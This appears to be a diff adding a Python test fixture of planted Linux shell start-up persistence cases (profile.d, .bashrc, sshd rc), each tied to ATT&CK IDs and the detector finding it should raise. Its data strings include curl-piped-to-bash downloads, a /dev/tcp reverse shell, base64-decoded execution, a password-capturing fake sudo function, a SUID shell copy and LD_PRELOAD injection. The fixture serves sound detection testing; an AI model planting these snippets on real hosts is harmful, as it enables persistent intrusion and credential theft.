@@ -1,0 +1,142 @@
+"""Coming back with each sign-in: profiles, rc files, aliases, hooks of sshd (ATT&CK T1546.004)."""
+
+from __future__ import annotations
+
+from tests.behaviours.behaviour import Behaviour
+
+BEHAVIOURS = (
+    Behaviour(
+        name="profile_d_script_fetches_code",
+        techniques=("T1546.004", "T1105"),
+        does="A file of profile.d fetches code and runs it whenever anybody signs in.",
+        marks=("203.0.113.31/p",),
+        raises=("shell_startup_fetches_and_runs_code",),
+        files={"/etc/profile.d/colors.sh": "alias ls='ls --color=auto'\ncurl -s http://203.0.113.31/p | bash\n"},
+    ),
+    Behaviour(
+        name="bashrc_opens_reverse_shell",
+        techniques=("T1546.004", "T1059.004"),
+        does="Root's .bashrc opens a shell to a distant machine in the background.",
+        marks=("203.0.113.32/9001",),
+        raises=("shell_startup_opens_network_shell",),
+        shell="echo '(bash -i >& /dev/tcp/203.0.113.32/9001 0>&1 &) 2>/dev/null' >> /root/.bashrc",
+    ),
+    Behaviour(
+        name="bashrc_decodes_code",
+        techniques=("T1546.004", "T1140", "T1027"),
+        does="The system's bashrc decodes a command and runs it.",
+        marks=("ZGF0ZQo=",),
+        raises=("shell_startup_runs_encoded_code",),
+        shell="echo 'echo ZGF0ZQo= | base64 -d | sh' >> /etc/bash.bashrc",
+    ),
+    Behaviour(
+        name="sudo_replaced_by_function_that_asks_for_password",
+        techniques=("T1546.004", "T1056"),
+        does="A function named sudo in a user's start-up file asks for the password and keeps it.",
+        marks=("/home/ann/.bashrc",),
+        raises=("shell_startup_shadows_privileged_command", "shell_startup_asks_for_password"),
+        files={
+            "/home/ann/.bashrc": 'sudo() {\n  read -s -p "[sudo] password for $USER: " pw\n'
+            '  echo "$pw" >> /var/lib/misc/.s\n  /usr/bin/sudo "$@"\n}\n'
+        },
+        shell="echo 'ann:x:2301:2301::/home/ann:/bin/bash' >> /etc/passwd; chown -R 2301:2301 /home/ann",
+    ),
+    Behaviour(
+        name="su_replaced_by_alias",
+        techniques=("T1546.004", "T1056"),
+        does="An alias in /etc/profile.d leads su to another program.",
+        marks=("/usr/local/lib/su-wrap",),
+        raises=("shell_startup_shadows_privileged_command",),
+        files={"/etc/profile.d/su.sh": "alias su='/usr/local/lib/su-wrap'\n"},
+    ),
+    Behaviour(
+        name="path_begins_with_tmp",
+        techniques=("T1546.004", "T1574"),
+        does="The search path of all shells begins with a directory that anybody may write to.",
+        marks=("PATH=/tmp:",),
+        raises=("shell_startup_path_begins_with_writable_directory",),
+        files={"/etc/profile.d/path.sh": "PATH=/tmp:$PATH\n"},
+    ),
+    Behaviour(
+        name="profile_preloads_library",
+        techniques=("T1574.006", "T1546.004"),
+        does="A start-up file forces a library on every program of the session.",
+        marks=("/usr/local/lib/libaudio-fix.so",),
+        raises=("shell_startup_preloads_library",),
+        files={"/etc/profile.d/audio.sh": "export LD_PRELOAD=/usr/local/lib/libaudio-fix.so\n"},
+    ),
+    Behaviour(
+        name="profile_makes_shell_suid",
+        techniques=("T1546.004", "T1548.001"),
+        does="Root's profile gives a copy of the shell the SUID bit at each sign-in.",
+        marks=("/var/lib/misc/rsh",),
+        raises=("shell_startup_sets_suid_bit",),
+        shell="echo 'cp /bin/sh /var/lib/misc/rsh; chmod 4755 /var/lib/misc/rsh' >> /root/.profile",
+    ),
+    Behaviour(
+        name="profile_starts_program_in_dev_shm",
+        techniques=("T1546.004",),
+        does="A file of profile.d starts a program from shared memory.",
+        marks=("/dev/shm/session-bus",),
+        raises=("shell_startup_runs_from_temporary_directory",),
+        files={"/etc/profile.d/bus.sh": "[ -x /dev/shm/session-bus ] && /dev/shm/session-bus\n"},
+    ),
+    Behaviour(
+        name="profile_starts_hidden_program",
+        techniques=("T1546.004", "T1564.001"),
+        does="A user's profile starts a program in a hidden directory below /usr/share.",
+        marks=("/usr/share/fonts/.uuid/fc",),
+        raises=("shell_startup_starts_hidden_program",),
+        shell="echo '/usr/share/fonts/.uuid/fc -d' >> /root/.bash_login",
+    ),
+    Behaviour(
+        name="profile_detaches_program",
+        techniques=("T1546.004",),
+        does="A profile leaves a program running that no terminal ends.",
+        marks=("/usr/local/lib/watchd",),
+        raises=("shell_startup_detaches_program",),
+        files={"/etc/profile.d/watch.sh": "nohup /usr/local/lib/watchd >/dev/null 2>&1 &\n"},
+    ),
+    Behaviour(
+        name="prompt_command_calls_home",
+        techniques=("T1546.004",),
+        does="The variable that Bash runs before each prompt fetches commands.",
+        marks=("PROMPT_COMMAND=",),
+        raises=("shell_startup_hooks_prompt",),
+        files={"/etc/profile.d/prompt.sh": "export PROMPT_COMMAND='curl -s http://203.0.113.33/c >/dev/null'\n"},
+    ),
+    Behaviour(
+        name="history_switched_off_for_all",
+        techniques=("T1070.003", "T1562.003"),
+        does="A file of profile.d sends the history of all shells to nowhere.",
+        marks=("HISTFILE=/dev/null",),
+        raises=("shell_startup_disables_history",),
+        files={"/etc/profile.d/history.sh": "export HISTFILE=/dev/null\n"},
+    ),
+    Behaviour(
+        name="profile_script_writable_by_everybody",
+        techniques=("T1546.004", "T1222.002"),
+        does="A file of profile.d, which root's shells read, can be changed by anybody.",
+        marks=("/etc/profile.d/lang.sh",),
+        raises=("shell_startup_file_writable_by_others", "file_world_writable_system_path"),
+        files={"/etc/profile.d/lang.sh": "export LANG=C.UTF-8\n"},
+        modes={"/etc/profile.d/lang.sh": 0o666},
+    ),
+    Behaviour(
+        name="start_up_file_of_user_owned_by_another_account",
+        techniques=("T1546.004",),
+        does="A user's .profile belongs to the web server's account.",
+        marks=("/home/ben/.profile",),
+        raises=("shell_startup_file_of_other_user",),
+        files={"/home/ben/.profile": "umask 022\n"},
+        shell="echo 'ben:x:2302:2302::/home/ben:/bin/sh' >> /etc/passwd; chown 2302:2302 /home/ben; chown 33:33 /home/ben/.profile",
+    ),
+    Behaviour(
+        name="sshd_rc_runs_program_for_each_session",
+        techniques=("T1546.004",),
+        does="The script that sshd runs for every session starts a program.",
+        marks=("/etc/ssh/sshrc",),
+        raises=("shell_startup_ssh_hook",),
+        files={"/etc/ssh/sshrc": "/usr/local/lib/ssh-stats\n"},
+    ),
+)
